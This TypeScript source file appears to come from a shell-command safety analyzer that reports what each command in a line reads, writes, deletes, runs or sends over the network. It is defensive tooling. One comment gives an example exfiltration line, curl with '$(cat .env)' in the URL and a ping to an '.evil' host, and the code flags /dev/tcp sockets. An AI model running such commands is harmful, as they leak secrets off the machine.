import type { Effect, Trait } from './catalogue/effect.js';
import { REGISTRY } from './catalogue/index.js';
import type { CommandLine, CwdSet, Redirect, SimpleCommand } from './command-line.js';
import { gitEnvironmentForms, type ShownEnvironment } from './commands/git-environment.js';
import { hostSlice } from './commands/hosts.js';
import type {
  Analyzer,
  CommandContext,
  EffectSink,
  RemoveHow,
  RunOptions,
  ScriptOptions,
  TreeRead,
  WriteHow,
} from './commands/spec.js';
import { isSensitiveShellVariable, RUNS_IN_THE_SHELL, variableRisk } from './environment.js';
import { parseCommandLine } from './parse.js';
import { movesStandardOutput } from './std-streams.js';
import { dynamicWord, isDynamic, staticWord, type Word } from './word.js';

/**
 * What each simple command of a line does, including the commands it runs: the ones inside
 * wrappers (`timeout 5 x`), `xargs x`, `find -exec x`, `bash -c '...'`, `eval`, and the code
 * named by options and variables (`git -c core.pager=...`, `PAGER=...`).
 */
export interface WriteTarget {
  readonly target: Word;
  readonly how: WriteHow;
  /** Written by a redirection (`> f`), not by the program: checked as an edit of its own. */
  readonly viaRedirect: boolean;
}

export interface CommandReport {
  /** argv as analyzed (for a nested command, its own argv, wrappers removed). */
  readonly argv: readonly Word[];
  /** How it was reached: 'line', or the wrapper / option that runs it (`xargs`, `bash -c`, ...). */
  readonly via: string;
  /** A wrapper that policy patterns look through (timeout, nice, env, ...). */
  readonly transparent: boolean;
  /** The command's own assignments (`X=1 cmd`). */
  readonly env: readonly { name: string; value: Word }[];
  readonly cwd: CwdSet;
  readonly reads: readonly Word[];
  /** What the links it creates point at (also listed in `reads`; see EffectSink.alias). */
  readonly aliases: readonly Word[];
  /** Directories it reads every file below (also listed in `reads`). */
  readonly readTrees: readonly { readonly root: Word; readonly how: TreeRead }[];
  readonly writes: readonly WriteTarget[];
  readonly removes: readonly Word[];
  /** Those of `removes` it deletes with everything below them (RemoveHow 'tree'). */
  readonly removeTrees: readonly Word[];
  /** Why it is not read-only (empty when it is). */
  readonly notReadOnly: readonly string[];
  /** The same, typed: one finding per entry of `notReadOnly`, in the same order. */
  readonly findings: readonly Finding[];
  /** What its command's knowledge says about it beyond effects (an edit, not prefix-allowable, ...). */
  readonly traits: readonly Trait[];
  /** Why it is destructive (empty when it is not). */
  readonly destructive: readonly string[];
  /** Why it may keep running after the call (`&`, setsid, tail -f); empty when it ends. */
  readonly lingers: readonly string[];
  /** Whether it opens network connections. */
  readonly network: boolean;
  /** The hosts it connects to, as the line shows them (see EffectSink.destination). */
  readonly hosts: readonly Word[];
  /** Why it runs code that exists only at run time (a dynamic command name or script); empty otherwise. */
  readonly unknownCode: readonly string[];
  /** It runs, as code, what arrives on its stdin. */
  readonly runsStdin: boolean;
  /** Where its stdin comes from. */
  readonly stdin: SimpleCommand['stdin'];
  /** Offsets in the top-level source of the simple command this report comes from. */
  readonly start: number;
  readonly end: number;
}

/** Why a command is not read-only, as data: the policy matches on `effect`, and shows `why`. */
export interface Finding {
  readonly effect: Effect;
  readonly why: string;
  /** It comes from a redirection (`> f`), not from the program. */
  readonly redirect: boolean;
}

export interface LineAnalysis {
  readonly line: CommandLine;
  readonly reports: readonly CommandReport[];
  /** Line-level findings that belong to no single command (parse problems, arithmetic on tainted values). */
  readonly lineReasons: readonly string[];
  /** Whether a line-level finding can run code the line does not show (so may be destructive). */
  readonly lineRunsHiddenCode: boolean;
  /** Whether every construct and command was understood (no parse problems, no nested too deep). */
  readonly complete: boolean;
}

const MAX_NESTING = 8;
const APPENDED = dynamicWord('(arguments added at run time)');
const SYSTEM_DIRS = /^\/(usr\/)?(local\/)?s?bin\/[^/]+$/;
/** Devices whose opening writes no file: whatever fds the line moved, these are not files. */
const NOT_FILES = new Set(['/dev/null', '/dev/tty', '/dev/zero', '/dev/full']);
/** Names that re-open what is on the standard output or error: the caller's pipe, unless the line moved it. */
const STD_OUT = /^\/dev\/(stdout|stderr|fd\/[12])$/;
/** Names that re-open another descriptor: stdin, or one the line opened (`exec 3<f; : >/dev/fd/3`). */
const OTHER_FD = /^\/(dev\/stdin|dev\/fd\/\d+|proc\/(self|thread-self|\d+)\/fd\/\d+)$/;

/**
 * The command table's entries in one shape, by name, each made on the first use of its name:
 * making all of them at load cost every process ~0.27 ms (interpreted), and a hook process
 * uses a few. A Map, because a command name is a fresh slice of the line, which a
 * dictionary-mode object first looks up among the engine's interned strings.
 */
interface Known {
  readonly analyze: Analyzer;
  readonly transparent: boolean;
  readonly traits: readonly Trait[];
}
const SPECS = new Map<string, Known>();

function specOf(name: string): Known | undefined {
  let entry = SPECS.get(name);
  if (entry === undefined) {
    const spec = REGISTRY.spec(name);
    // Unknown names are not remembered: a long-running process would keep every one it met.
    if (spec === undefined) return undefined;
    entry = { analyze: spec.analyze, transparent: spec.transparent === true, traits: spec.traits ?? NONE };
    SPECS.set(name, entry);
  }
  return entry;
}

export function analyzeLine(source: string): LineAnalysis {
  return analyzeParsed(parseCommandLine(source), 0, 'line');
}

function analyzeParsed(
  line: CommandLine,
  depth: number,
  via: string,
  extraArgs = false,
  inherited?: ShownEnvironment,
): LineAnalysis {
  const analyzer = new LineAnalyzer(line, depth, extraArgs, inherited);
  const hiddenCode = hiddenCodeOf(line);
  for (const cmd of line.commands) analyzer.command(cmd, via);
  const bound = sensitiveBindingsOf(line);
  const lineReasons =
    hiddenCode.length + analyzer.lineReasons.length + bound.length === 0
      ? line.problems
      : [...line.problems, ...hiddenCode, ...bound, ...analyzer.lineReasons];
  return {
    line,
    reports: analyzer.reports,
    lineReasons,
    // A binding of PATH, BASH_CMDS, BASH_ENV... can make a later command run a program the line
    // does not show, as a `PATH=tools ls` prefix can (which its command reports as opaque).
    lineRunsHiddenCode: hiddenCode.length + bound.length > 0,
    complete: line.problems.length === 0 && analyzer.complete,
  };
}

/**
 * Variables that change what later commands run (PATH, BASH_ENV, LD_PRELOAD, GIT_*...) set by
 * anything but a plain `NAME=value` (which its own command reports): `read`, `printf -v`, `for`,
 * `mapfile`, `wait -p`, `getopts`, `${NAME:=...}`, `declare`. One rule for every way of binding
 * a name; a command's prefix (`IFS= read`) reaches that command only and is judged there.
 */
function sensitiveBindingsOf(line: CommandLine): readonly string[] {
  if (line.variables.size === 0) return NONE;
  let out: string[] | undefined;
  for (const [name, v] of line.variables) {
    if (v.prefixOnly || !isSensitiveShellVariable(name) || plainlyAssigned(line, name)) continue;
    out = push(out, `the line sets ${name} (not as NAME=value), which changes how later commands run`);
  }
  return out ?? NONE;
}

function plainlyAssigned(line: CommandLine, name: string): boolean {
  return line.commands.some((c) => c.kind === 'assignment' && c.assignments.some((a) => a.name === name));
}

/** Expansions that run code hidden in a value; the shared empty list for most lines (no iterators over empty sets). */
function hiddenCodeOf(line: CommandLine): readonly string[] {
  let hiddenCode: string[] | undefined;
  for (const name of line.promptExpansions) {
    hiddenCode = push(
      hiddenCode,
      `\${${name}@P} expands the value as a prompt, which runs command substitutions inside it`,
    );
  }
  if (line.taintedNames.size === 0) return hiddenCode ?? NONE;
  for (const name of line.indirectExpansions) {
    if (line.taintedNames.has(name)) {
      hiddenCode = push(
        hiddenCode,
        `\${!${name}} dereferences a name this line sets; a subscript in it can run code`,
      );
    }
  }
  for (const name of line.arithmeticNames) {
    if (line.taintedNames.has(name)) {
      hiddenCode = push(
        hiddenCode,
        `arithmetic evaluates $${name}, whose value this line sets: an array subscript in it can run code`,
      );
    }
  }
  return hiddenCode ?? NONE;
}

class LineAnalyzer {
  readonly reports: CommandReport[] = [];
  readonly lineReasons: string[] = [];
  complete = true;
  /** Aliases the line defines (`alias ll='ls -l'`), made on the first one. */
  private aliases: Map<string, Word> | undefined;
  /** Whether some redirection of the line points fd 1 or 2 at something else than an output (see movesStandardOutput). */
  private stdMoved: boolean | undefined;
  /** Variables exported so far whose effect depends on the program that gets them. */
  private exported: { name: string; value: Word }[] | undefined;
  /** Every value a wrapper or `export` hands on (`env X=1 cmd`), for environmentOf. */
  private handedOn: Map<string, Word[]> | undefined;

  constructor(
    private readonly line: CommandLine,
    private readonly depth: number,
    /** Arguments are appended to these commands at run time (code run as a pager, a diff program, ...). */
    private readonly extraArgs: boolean,
    /** The environment of the command whose code this line is (`X=1 bash -c '...'`). */
    private readonly inherited?: ShownEnvironment,
  ) {}

  /**
   * What a program may find in its environment, as the line shows it: its own prefix
   * (`assignments`), what wrappers and `export` hand on, anything the line assigns other than as
   * another command's prefix (it may be exported already), and the outer line's. Every value
   * counts, wherever it is set: a rule that meets any of them must hold.
   */
  private environmentOf(assignments: readonly { name: string; value: Word }[]): ShownEnvironment {
    return (name) => {
      const values: string[] = [];
      let dynamic = false;
      const add = (w: Word) => {
        if (isDynamic(w)) dynamic = true;
        else values.push(w.value);
      };
      for (const a of assignments) if (a.name === name) add(a.value);
      for (const w of this.handedOn?.get(name) ?? NONE) add(w);
      const v = this.line.variables.get(name);
      if (v !== undefined && !v.prefixOnly) {
        values.push(...v.values);
        dynamic ||= v.dynamic;
      }
      const outer = this.inherited?.(name);
      if (outer !== undefined) {
        values.push(...outer.values);
        dynamic ||= outer.dynamic;
      }
      return values.length === 0 && !dynamic ? undefined : { values, dynamic };
    };
  }

  command(cmd: SimpleCommand, via: string): void {
    const r = new ReportBuilder(this, cmd, cmd.argv, via);
    this.redirects(cmd, r);
    switch (cmd.kind) {
      case 'assignment':
        for (const a of cmd.assignments) {
          if (isSensitiveShellVariable(a.name)) {
            r.notReadOnly(`assigning ${a.name} changes how later commands run`);
          }
        }
        break;
      case 'arithmetic':
      case 'redirect-only':
        break;
      default:
        this.program(cmd, cmd.argv, r, this.extraArgs, { env: cmd.assignments });
    }
    if (cmd.background) r.linger(`"${r.display()}" runs in the background (&)`);
    this.reports.push(r.build());
  }

  private redirects(cmd: SimpleCommand, r: ReportBuilder): void {
    this.stdMoved ??= movesStandardOutput(this.line);
    for (const redirect of cmd.redirects)
      redirectEffect(redirect, r, cmd.argv[0]?.value === 'exec', this.stdMoved);
  }

  /** Analyze argv as a program run: env prefix, name resolution, then the command's knowledge. */
  private program(
    cmd: SimpleCommand,
    argv: readonly Word[],
    r: ReportBuilder,
    extraArgs: boolean,
    how: {
      /** The prefix of the command that runs it (a wrapper hands its environment on). */
      env: readonly { name: string; value: Word }[];
      repeated?: boolean;
      /** It is a form gitEnvironmentForms made: its environment is in its words already. */
      configured?: boolean;
    },
  ): void {
    const repeated = how.repeated ?? false;
    // A declaration's `NAME=value` words set shell variables (declareSpec hands exported ones on);
    // a command's prefix assignments are its environment.
    if (cmd.kind !== 'declaration')
      for (const a of cmd.assignments) this.environment(a.name, a.value, r, argv[0]);
    const nameWord = argv[0];
    if (nameWord === undefined) return;
    // What rules match is the command as it runs: with the words xargs (or a pager) adds.
    if (extraArgs) r.appendsArguments();
    if (isDynamic(nameWord)) {
      r.unknownCode(`the command name "${nameWord.raw}" is only known at run time`);
      return;
    }
    let name = nameWord.value;
    if (name.includes('/')) {
      if (!SYSTEM_DIRS.test(name)) {
        r.opaque(`runs the program ${name}, whose code the line does not show`);
        return;
      }
      name = name.slice(name.lastIndexOf('/') + 1);
    }
    if (this.line.functions.has(name) && cmd.kind === 'command' && argv === cmd.argv && !extraArgs) {
      // Its body is part of this line and analyzed on its own.
      return;
    }
    if (this.exported !== undefined && !RUNS_IN_THE_SHELL.has(name)) {
      for (const e of this.exported) this.environment(e.name, e.value, r, nameWord);
    }
    const alias = this.aliases?.get(name);
    if (alias !== undefined && cmd.kind === 'command') {
      const rest = argv.slice(1).map((w) => w.raw);
      this.script({ ...alias, value: [alias.value, ...rest].join(' ') }, `alias ${name}`, cmd, r);
      return;
    }
    if (name === 'alias') this.defineAliases(argv.slice(1), r);
    const spec = specOf(name);
    if (spec === undefined) {
      r.opaque(`${name} is not a known program: it may do anything`);
      return;
    }
    if (spec.transparent) r.transparent();
    if (spec.traits.length > 0) r.traits(spec.traits);
    // Arguments a program adds at run time (xargs, a pager's file names) are one more word the
    // line does not show, so every command's own rules see them.
    const args = extraArgs ? [...argv.slice(1), APPENDED] : argv.slice(1);
    const ctx: CommandContext = { name, args, command: cmd, line: this.line, extraArgs, repeated };
    spec.analyze(ctx, r);
    if (name === 'git' && cmd.kind !== 'declaration' && !how.configured) {
      const forms = gitEnvironmentForms(argv, this.environmentOf(how.env));
      if (forms === undefined)
        r.unknownCode('git takes configuration from more environment values than can be checked');
      for (const form of forms ?? NONE)
        this.nested(cmd, form, 'git configuration from the environment', extraArgs, repeated, how.env, true);
    }
  }

  /**
   * `export NAME=value`: a name known to be harmless, or to change what runs (PATH, PAGER...), is
   * judged now; any other reaches the programs the line runs after it, and is judged with each
   * one, as if it were that program's prefix (`export FOO=bar` alone is read-only).
   */
  exportVariable(name: string, value: Word, r: ReportBuilder): void {
    this.handedOn ??= new Map();
    const handed = this.handedOn.get(name);
    if (handed === undefined) this.handedOn.set(name, [value]);
    else handed.push(value);
    const risk = variableRisk(name, isDynamic(value) ? undefined : value.value);
    if (risk.kind === 'influence' && !risk.loadsCode) {
      r.env(name, value);
      this.exported ??= [];
      this.exported.push({ name, value });
      return;
    }
    this.environment(name, value, r, undefined);
  }

  environment(name: string, value: Word, r: ReportBuilder, program: Word | undefined): void {
    r.env(name, value);
    const who = program?.value ?? 'the command';
    const risk = variableRisk(name, isDynamic(value) ? undefined : value.value);
    if (risk.kind === 'harmless') return;
    if (risk.kind === 'code') {
      this.script(value, `${name}=... (${who})`, undefined, r, { appendsArgs: true });
      return;
    }
    if (risk.loadsCode) r.opaque(`${risk.why} (${name}=... ${who}): it can run code the line does not show`);
    else r.notReadOnly(`${risk.why} (${name}=... ${who})`);
    if (name.startsWith('GIT_CONFIG_VALUE'))
      this.script(value, `${name}=`, undefined, r, { appendsArgs: true });
  }

  private defineAliases(args: readonly Word[], r: ReportBuilder): void {
    for (const a of args) {
      const eq = a.value.indexOf('=');
      if (eq <= 0) continue;
      if (isDynamic(a)) {
        r.notReadOnly(`alias ${a.raw} defines a command only known at run time`);
        continue;
      }
      this.aliases ??= new Map();
      this.aliases.set(a.value.slice(0, eq), staticWord(a.value.slice(eq + 1)));
    }
  }

  /** A command run by another one (wrappers, xargs, find -exec); for CommandSink. */
  nested(
    cmd: SimpleCommand,
    argv: readonly Word[],
    via: string,
    extraArgs: boolean,
    repeated: boolean,
    env: readonly { name: string; value: Word }[] = cmd.assignments,
    configured = false,
  ): void {
    if (argv.length === 0) return;
    if (this.depth >= MAX_NESTING) {
      this.tooDeep(via);
      return;
    }
    const inner = new ReportBuilder(this, cmd, argv, via);
    // The wrapper's prefix is the inner command's environment, not an assignment of its own.
    this.program({ ...cmd, assignments: [] }, argv, inner, extraArgs, { env, repeated, configured });
    this.reports.push(inner.build());
  }

  /** Shell code run by another command: parsed and analyzed like a line of its own. */
  script(
    code: Word,
    via: string,
    cmd: SimpleCommand | undefined,
    r: ReportBuilder,
    opts: ScriptOptions = {},
  ): void {
    if (isDynamic(code)) {
      r.unknownCode(`${via} runs code only known at run time ("${short(code.raw)}")`);
    } else if (!opts.shown) {
      r.notReadOnly(`${via} runs shell code given in an argument ("${short(code.value)}")`, 'runs-code');
    }
    if (this.depth >= MAX_NESTING) {
      this.tooDeep(via);
      return;
    }
    const nested = analyzeParsed(
      parseCommandLine(code.value),
      this.depth + 1,
      via,
      opts.appendsArgs ?? false,
      this.environmentOf(cmd?.assignments ?? NONE),
    );
    if (!nested.complete) this.complete = false;
    if (nested.lineRunsHiddenCode) r.opaque(`${via}: the code can run other code`);
    for (const reason of nested.lineReasons) r.notReadOnly(`${via}: ${reason}`);
    for (const report of nested.reports) {
      // Offsets of nested code point into the outer command.
      this.reports.push({
        ...report,
        via: report.via === via ? via : `${via} > ${report.via}`,
        start: cmd?.start ?? report.start,
        end: cmd?.end ?? report.end,
        cwd: cmd?.cwd ?? report.cwd,
      });
    }
  }

  private tooDeep(via: string): void {
    this.complete = false;
    this.lineReasons.push(`too complex: commands nested more than ${MAX_NESTING} levels deep (${via})`);
  }
}

function redirectEffect(redirect: Redirect, r: ReportBuilder, isExec: boolean, stdMoved: boolean): void {
  const target = redirect.target;
  const op = redirect.op;
  if (op === '<<' || op === '<<-' || op === '<<<' || op === '>&-' || op === '<&-') return;
  if (target === undefined) return;
  const value = target.value;
  if ((op === '>&' || op === '<&') && !isDynamic(target) && /^(\d+|-)$/.test(value)) return;
  const socket = /^\/dev\/(tcp|udp)\/([^/]*)/.exec(value);
  if (socket && (target.staticPrefix ?? value.length) >= 9) {
    r.network(`redirect ${op} ${target.raw} opens a network connection`, op !== '<');
    r.destination(hostSlice(target, 9, 9 + socket[2]!.length));
    return;
  }
  if (!isDynamic(target)) {
    if (NOT_FILES.has(value)) return;
    // Reading a descriptor again reads what the line already reads (its stdin, a file it opened).
    if (op === '<' && (STD_OUT.test(value) || OTHER_FD.test(value))) return;
    // Writing re-opens whatever is there: the caller's output, or a file (`: <f >/dev/fd/0` truncates f).
    if (STD_OUT.test(value) && !stdMoved) return;
  }
  if (op === '<') {
    r.read(target);
    return;
  }
  const how: WriteHow = op === '>>' || op === '&>>' ? 'append' : 'overwrite';
  const verb = how === 'append' ? 'appends to' : 'writes';
  r.write(
    target,
    how,
    `redirect ${op} ${verb} ${target.raw}${isExec ? ' (for the rest of the shell)' : ''}`,
    true,
  );
}

function short(text: string): string {
  const t = text.replace(/\s+/g, ' ');
  return t.length > 60 ? `${t.slice(0, 57)}...` : t;
}

/**
 * A shared empty list for every effect a command does not have: most commands have one or two
 * kinds of effect, and nine fresh arrays per command were a tenth of a short line's analysis
 * before the JIT has optimized it.
 */
const NONE: readonly never[] = Object.freeze([]);

/** Appends to a list made on first use. */
function push<T>(list: T[] | undefined, item: T): T[] {
  if (list === undefined) return [item];
  list.push(item);
  return list;
}

/**
 * One command's report as it is built, and what its command's knowledge reports to: its effects
 * go to the report, the commands and code it runs to the analyzer. One object per command.
 */
class ReportBuilder implements EffectSink {
  private reads: Word[] | undefined;
  private aliased: Word[] | undefined;
  private trees: { root: Word; how: TreeRead }[] | undefined;
  private writes: WriteTarget[] | undefined;
  private removes: Word[] | undefined;
  private removeTrees: Word[] | undefined;
  private notRO: string[] | undefined;
  private found: Finding[] | undefined;
  private traitList: Trait[] | undefined;
  private destructive: string[] | undefined;
  private envs: { name: string; value: Word }[] | undefined;
  private lingering: string[] | undefined;
  private usesNetwork = false;
  private hosts: Word[] | undefined;
  private stdinCode = false;
  private unknown: string[] | undefined;
  private isTransparent = false;

  constructor(
    private readonly analyzer: LineAnalyzer,
    private readonly cmd: SimpleCommand,
    private argv: readonly Word[],
    private readonly via: string,
  ) {}

  run(argv: readonly Word[], via: string, opts?: RunOptions): void {
    this.analyzer.nested(this.cmd, argv, via, opts?.extraArgs ?? false, opts?.repeated ?? false);
  }

  runScript(code: Word, via: string, opts?: ScriptOptions): void {
    this.analyzer.script(code, via, this.cmd, this, opts);
  }

  exportVariable(name: string, value: Word): void {
    this.analyzer.exportVariable(name, value, this);
  }

  notUnderstood(why: string): void {
    this.notReadOnly(why);
  }

  lingers(why: string): void {
    this.linger(why);
  }

  trait(t: Trait): void {
    if (this.traitList?.includes(t)) return;
    this.traitList = push(this.traitList, t);
  }

  traits(ts: readonly Trait[]): void {
    for (let i = 0; i < ts.length; i++) this.trait(ts[i]!);
  }

  /** Why it is not read-only, as text and as a typed finding (always both). */
  private finding(effect: Effect, why: string, redirect = false): void {
    this.notRO = push(this.notRO, why);
    this.found = push(this.found, { effect, why, redirect });
  }

  /** Arguments the program adds at run time: one more word of the command, only known then. */
  appendsArguments(): void {
    this.argv = [...this.argv, APPENDED];
  }

  display(): string {
    const words = this.argv.map((w) => w.raw).join(' ');
    return words.length > 80 ? `${words.slice(0, 77)}...` : words;
  }

  read(target: Word): void {
    this.reads = push(this.reads, target);
  }

  alias(target: Word): void {
    this.reads = push(this.reads, target);
    this.aliased = push(this.aliased, target);
  }

  readTree(root: Word, how: TreeRead): void {
    this.reads = push(this.reads, root);
    this.trees = push(this.trees, { root, how });
  }

  write(target: Word, how: WriteHow, why: string, viaRedirect = false): void {
    this.writes = push(this.writes, { target, how, viaRedirect });
    this.finding(how === 'append' ? 'appends' : 'writes', why, viaRedirect);
    if (how === 'overwrite' || how === 'modify') this.destructive = push(this.destructive, why);
  }

  remove(target: Word, why: string, how: RemoveHow = 'entry'): void {
    this.removes = push(this.removes, target);
    if (how === 'tree') this.removeTrees = push(this.removeTrees, target);
    this.finding('removes', why);
    this.destructive = push(this.destructive, why);
  }

  opaque(why: string): void {
    this.finding('runs-code', why);
    this.destructive = push(this.destructive, why);
  }

  runsStdin(why: string): void {
    this.opaque(why);
    this.stdinCode = true;
  }

  /** Runs code that exists only at run time: nothing about it can be checked. */
  unknownCode(why: string): void {
    this.opaque(why);
    this.unknown = push(this.unknown, why);
  }

  network(why: string, sends: boolean): void {
    this.usesNetwork = true;
    this.finding(sends ? 'sends-data' : 'network', why);
    if (sends) this.destructive = push(this.destructive, why);
    else if (this.argv.some((w) => w.expansions.includes('command'))) {
      // `curl "https://x/?d=$(cat .env)"`, `ping "$(whoami).evil"`: command output leaves the machine.
      this.destructive = push(this.destructive, `${why}, carrying command output in its arguments`);
    }
  }

  destination(host: Word): void {
    this.hosts = push(this.hosts, host);
  }

  change(why: string, destructive: boolean): void {
    this.finding('changes-system', why);
    if (destructive) this.destructive = push(this.destructive, why);
  }

  notReadOnly(why: string, effect: Effect = 'unmodelled'): void {
    this.finding(effect, why);
  }

  linger(why: string): void {
    this.lingering = push(this.lingering, why);
  }

  transparent(): void {
    this.isTransparent = true;
  }

  env(name: string, value: Word): void {
    this.envs = push(this.envs, { name, value });
  }

  build(): CommandReport {
    return {
      argv: this.argv,
      via: this.via,
      transparent: this.isTransparent,
      env: this.envs ?? NONE,
      cwd: this.cmd.cwd,
      reads: this.reads ?? NONE,
      aliases: this.aliased ?? NONE,
      readTrees: this.trees ?? NONE,
      writes: this.writes ?? NONE,
      removes: this.removes ?? NONE,
      removeTrees: this.removeTrees ?? NONE,
      notReadOnly: this.notRO ?? NONE,
      findings: this.found ?? NONE,
      traits: this.traitList ?? NONE,
      destructive: this.destructive ?? NONE,
      lingers: this.lingering ?? NONE,
      network: this.usesNetwork,
      hosts: this.hosts ?? NONE,
      unknownCode: this.unknown ?? NONE,
      runsStdin: this.stdinCode,
      stdin: this.cmd.stdin,
      start: this.cmd.start,
      end: this.cmd.end,
    };
  }
}
